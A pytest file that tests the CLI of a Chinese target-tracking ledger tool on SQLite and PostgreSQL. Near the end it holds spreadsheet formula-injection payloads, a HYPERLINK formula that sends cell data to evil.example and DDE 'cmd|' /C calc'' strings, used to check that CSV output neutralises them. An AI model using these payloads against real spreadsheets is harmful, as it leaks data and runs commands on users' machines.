"""The ledger commands through click's CliRunner, on SQLite and on PostgreSQL."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

import taizhang.extract
from taizhang.cli import cli
from taizhang.ledger import make_engine, upgrade
from taizhang.ledger.db import head_revision
from taizhang.ledger.testing import clear_ledger, make_target, throwaway_database
from taizhang.types import Comparator


@pytest.fixture(scope="module")
def pg_url() -> Iterator[str]:
    with throwaway_database("ledgercli") as url:
        upgrade(url)
        yield url


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def db(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'cli.db'}"
    url: str = request.getfixturevalue("pg_url")
    engine = make_engine(url)
    clear_ledger(engine)
    engine.dispose()
    return url


def fake_extract(text: str, *, date: date | None = None, subject: str | None = None,
                 **_: object) -> list:
    """Two targets per document; documents mentioning 调整 restate the first with 1300."""
    value = "1300" if "调整" in text else "1200"
    return [
        make_target(
            "有效高新技术企业数量", value, subject="江阴", quote=f"全年有效高企突破{value}家"
        ),
        make_target(
            f"{text[:4]}项目数", "3", subject="宜兴", comparator=Comparator.EQ, deadline=None
        ),
    ]


@pytest.fixture
def corpus(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(taizhang.extract, "extract_targets", fake_extract)
    monkeypatch.setenv("TAIZHANG_ACTOR", "clerk")
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "a.txt").write_text("甲乙丙丁年初报告", encoding="utf-8")
    (folder / "a.json").write_text(
        '{"date": "2024-01-20", "region": "江苏省无锡市"}', encoding="utf-8"
    )
    (folder / "b.txt").write_text("戊己庚辛调整目标", encoding="utf-8")
    (folder / "b.json").write_text('{"date": "2024-06-28"}', encoding="utf-8")
    return folder


def run(*args: str, ok: bool = True) -> tuple[str, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert (result.exit_code == 0) == ok, result.output
    return result.stdout, result.stderr


def test_ingest_list_show_review(db: str, corpus: Path) -> None:
    out, _ = run("ingest", str(corpus), "--db", db)
    assert out == (
        "2 file(s): 2 added (3 new targets, 1 revisions), 0 already in the ledger, 0 failed\n"
    )
    out, _ = run("ingest", str(corpus / "a.txt"), "--db", db)
    assert (
        out
        == "1 file(s): 0 added (0 new targets, 0 revisions), 1 already in the ledger, 0 failed\n"
    )
    records = json.loads(run("targets", "--format", "json", "--db", db)[0])
    assert [(r["id"], r["responsible"], r["value"], r["comparator"]) for r in records] == [
        (1, "江阴", 1300, "gt"),
        (2, "宜兴", 3, "eq"),
        (3, "宜兴", 3, "eq"),
    ]
    out, _ = run("targets", "--unit", "江阴", "--format", "csv", "--db", db)
    assert out.splitlines() == [
        (
            "id,responsible,indicator,comparator,value,value_max,unit,deadline,latest_value,"
            "latest_as_of,review_state"
        ),
        "1,江阴,有效高新技术企业数量,gt,1300,,家,2024-12-31,,,unreviewed",
    ]
    out, _ = run(
        "targets", "--unit", "无锡", "--due-before", "2025-01-01", "--format", "csv", "--db", db
    )
    assert [line.split(",")[0] for line in out.splitlines()] == ["id", "1"]
    out, _ = run("review", "1", "--set", "value=1250", "--set", "baseline_value=1000", "--db", db)
    assert out == "target 1: edited\n"
    out, _ = run("review", "2", "--reject", "--db", db)
    assert out == "target 2: rejected\n"
    out, _ = run("show", "1", "--db", db)
    assert out.startswith("#1 江阴  有效高新技术企业数量\n  comparator: gt\n  value: 1250\n")
    assert "  2024-01-20  gt 1200  deadline 2024-12-31  [a]\n" in out
    assert "  2024-06-28  gt 1300  deadline 2024-12-31  [b]\n" in out
    assert "clerk  ingest" in out and "clerk  update" in out and '"value": ["1300", "1250"]' in out
    detail = json.loads(run("show", "1", "--format", "json", "--db", db)[0])
    assert [r["value"] for r in detail["revisions"]] == [1200, 1300]
    assert (
        run("targets", "--status", "rejected", "--format", "json", "--db", db)[0].count('"id"') == 1
    )


def test_errors_are_messages_not_tracebacks(db: str, corpus: Path) -> None:
    run("ingest", str(corpus), "--db", db)
    result = CliRunner().invoke(cli, ["review", "1", "--set", "colour=red", "--db", db])
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: cannot set 'colour'; editable fields: indicator,")
    result = CliRunner().invoke(cli, ["show", "42", "--db", db])
    assert result.stderr == "Error: no target 42 in the ledger\n"
    result = CliRunner().invoke(cli, ["targets", "--status", "sleeping", "--db", db])
    assert result.exit_code == 2
    assert "unknown status 'sleeping'; use one of unreviewed, confirmed" in result.stderr
    out, _ = run("targets", "--status", "no_data", "--as-of", "2024-09-30", "--format", "json",
                 "--db", db)
    assert [r["id"] for r in json.loads(out)] == [1, 2, 3]
    run("progress", "add", "1", "100", "--as-of", "2024-06-30", "--db", db)
    out, _ = run(
        "targets",
        "--status",
        "seriously_behind",
        "--as-of",
        "2024-09-30",
        "--format",
        "csv",
        "--db",
        db,
    )
    assert [line.split(",")[0] for line in out.splitlines()] == ["id", "1"]


def test_bad_file_is_reported_and_skipped(db: str, corpus: Path) -> None:
    (corpus / "c.txt").write_bytes(b"\x00\x01\x02binary\x00\x00")
    result = CliRunner().invoke(cli, ["ingest", str(corpus), "--db", db])
    assert result.exit_code == 1
    assert "failed: " in result.stderr and "c.txt" in result.stderr
    assert result.stdout.endswith(
        "2 added (3 new targets, 1 revisions), 0 already in the ledger, 1 failed\n"
    )


def test_progress_add_import_and_export(db: str, corpus: Path, tmp_path: Path) -> None:
    run("ingest", str(corpus), "--db", db)
    evidence = tmp_path / "q2.pdf"
    evidence.write_bytes(b"%PDF-1.4")
    out, _ = run(
        "progress",
        "add",
        "1",
        "650",
        "--as-of",
        "2024-06-30",
        "--note",
        "上半年",
        "--evidence",
        str(evidence),
        "--db",
        db,
    )
    assert out == "report 1: target 1 = 650家 as of 2024-06-30\n"
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "目标编号,完成值,截至日期,备注\n2,1,2024-06-30,\n9,1,2024-06-30,\n3,x,2024-06-30,\n",
        encoding="utf-8",
    )
    result = CliRunner().invoke(cli, ["progress", "import", str(bad), "--db", db])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[1:] == [
        "  row 3: no target '9' in the ledger",
        "  row 4: value: 'x' is not an amount; write it as 1500, 1500亿, 3,000万元, 1.2万 or 百分之五",
    ]
    out, err = run("progress", "import", str(bad), "--skip-invalid", "--db", db)
    assert out == "1 report(s) imported, 0 updated, 0 already in the ledger, 2 row(s) skipped\n"
    assert err.splitlines()[0] == "skipped row 3: no target '9' in the ledger"
    records = json.loads(run("targets", "--format", "json", "--db", db)[0])
    assert [(r["latest_value"], r["latest_as_of"]) for r in records] == [
        (650, "2024-06-30"),
        (1, "2024-06-30"),
        (None, None),
    ]
    sheet_path = tmp_path / "台账.xlsx"
    out, _ = run("export", str(sheet_path), "--as-of", "2024-06-30", "--db", db)
    assert out == f"3 target(s) written to {sheet_path}\n"
    sheet = load_workbook(sheet_path).active
    assert sheet is not None
    row = [c.value for c in sheet[3]]
    assert row[:8] == [1, 1, "江阴", "有效高新技术企业数量", ">", 1300, None, "家"]
    assert row[10] == "650家（截至2024-06-30）：上半年"


def test_import_ledger_and_db_upgrade(tmp_path: Path, corpus: Path) -> None:
    db = f"sqlite:///{tmp_path / 'fresh.db'}"
    head = head_revision()
    out, _ = run("db", "upgrade", "--db", db)
    assert out == f"ledger schema: empty → {head}\n"
    out, _ = run("db", "upgrade", "--db", db)
    assert out == f"ledger schema: {head} → {head}\n"
    run("ingest", str(corpus), "--db", db)
    run("progress", "add", "1", "650", "--as-of", "2024-06-30", "--db", db)
    run("export", str(tmp_path / "t.xlsx"), "--as-of", "2024-06-30", "--db", db)
    other = f"sqlite:///{tmp_path / 'other.db'}"
    run("db", "init", "--db", other)  # only ingest and db init create a ledger
    out, _ = run("import-ledger", str(tmp_path / "t.xlsx"), "--date", "2024-07-01", "--db", other)
    assert (
        out == f"3 new target(s), 0 revision(s), 1 progress report(s) from {tmp_path / 't.xlsx'}\n"
    )
    out, _ = run("import-ledger", str(tmp_path / "t.xlsx"), "--db", other)
    assert out == f"{tmp_path / 't.xlsx'} is already in the ledger (document 1)\n"


@pytest.mark.parametrize(
    "name",
    [
        "ingest",
        "targets",
        "show",
        "review",
        "export",
        "import-ledger",
        "progress add",
        "progress import",
        "db upgrade",
    ],
)
def test_every_command_teaches_with_an_example(name: str) -> None:
    out, _ = run(*name.split(), "--help")
    assert "Example:" in out and f"taizhang {name.split()[0]}" in out.split("Example:")[1]


@pytest.mark.parametrize("number", ["²", "99999999999999999999"])
def test_a_target_number_no_integer_holds_is_an_error_not_a_traceback(
    db: str, corpus: Path, number: str
) -> None:
    run("ingest", str(corpus), "--db", db)
    expected = f"Error: target {number!r}: a target is named by its number, e.g. 12\n"
    for args in (["show", number], ["review", number, "--confirm"],
                 ["progress", "add", number, "5", "--as-of", "2024-06-30"]):
        result = CliRunner().invoke(cli, [*args, "--db", db])
        assert result.exit_code == 1, result.output
        assert result.stderr == expected
    sheet = corpus.parent / "progress.csv"
    sheet.write_text(f"目标编号,完成值,截至日期\n{number},5,2024-06-30\n1,1100,0\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["progress", "import", str(sheet), "--db", db])
    assert result.exit_code == 1, result.output
    assert f"row 2: no target {number!r} in the ledger" in result.stderr
    assert "row 3: as_of: expected a date like 2024-06-30, got '0'" in result.stderr  # not 1970


def test_unreadable_sheets_are_errors_not_tracebacks(db: str, corpus: Path) -> None:
    run("ingest", str(corpus), "--db", db)
    empty, text = corpus.parent / "empty.xlsx", corpus.parent / "text.xlsx"
    empty.write_bytes(b"")
    text.write_text("目标编号,完成值\n", encoding="utf-8")
    for sheet in (empty, text):
        for command in (["progress", "import"], ["import-ledger"]):
            result = CliRunner().invoke(cli, [*command, str(sheet), "--db", db])
            assert result.exit_code == 1, result.output
            assert "not a readable .xlsx file" in result.stderr


def test_a_csv_cell_longer_than_csvs_default_limit_is_read(db: str, corpus: Path) -> None:
    run("ingest", str(corpus), "--db", db)
    note = "说明" * 70_000  # 140,000 characters: csv refuses more than 131,072 by default
    sheet = corpus.parent / "progress.csv"
    sheet.write_text(f"目标编号,完成值,截至日期,备注\n1,1100,2024-06-30,{note}\n", encoding="utf-8")
    run("progress", "import", str(sheet), "--db", db)
    out, _ = run("show", "1", "--format", "json", "--db", db)
    assert json.loads(out)["progress"][0]["note"] == note


FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0",
            "-2+cmd|' /C calc'!A0", "@SUM(1+1)")


def test_targets_csv_neutralises_formulas(db: str, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 10: an indicator (from an import, or a supervisor's edit) that starts with = + - @
    is written with a leading apostrophe, so a spreadsheet shows it instead of running it."""
    def extract(text: str, **_: object) -> list:
        return [make_target(indicator, str(k + 1), subject="江阴", quote=f"@{indicator}")
                for k, indicator in enumerate(FORMULAS[:3])]

    monkeypatch.setattr(taizhang.extract, "extract_targets", extract)
    (tmp_path / "f.txt").write_text("公式文本", encoding="utf-8")
    (tmp_path / "f.json").write_text('{"date": "2024-06-28", "region": "江苏省无锡市"}',
                                     encoding="utf-8")
    run("ingest", str(tmp_path / "f.txt"), "--db", db)
    run("review", "3", "--set", f"indicator={FORMULAS[3]}", "--db", db)  # a supervisor's edit
    out, _ = run("targets", "--format", "csv", "--db", db)
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["indicator"] for r in rows] == ["'" + f for f in (*FORMULAS[:2], FORMULAS[3])]
    assert all(not r[k].startswith(("=", "+", "-", "@")) for r in rows for k in r)
    assert [r["value"] for r in rows] == ["1", "2", "3"]  # numbers are left alone
    records = json.loads(run("targets", "--format", "json", "--db", db)[0])
    assert records[0]["indicator"] == FORMULAS[0] and records[0]["quote"] == "@" + FORMULAS[0]
    # the status CSV guards its text fields (unit, indicator, rules version) the same way
    status = list(csv.DictReader(io.StringIO(
        run("status", "--format", "csv", "--as-of", "2024-09-30", "--db", db)[0])))
    assert [r["indicator"] for r in status] == [r["indicator"] for r in rows]
    assert all(not r[k].startswith(("=", "+", "-", "@")) for r in status for k in r)
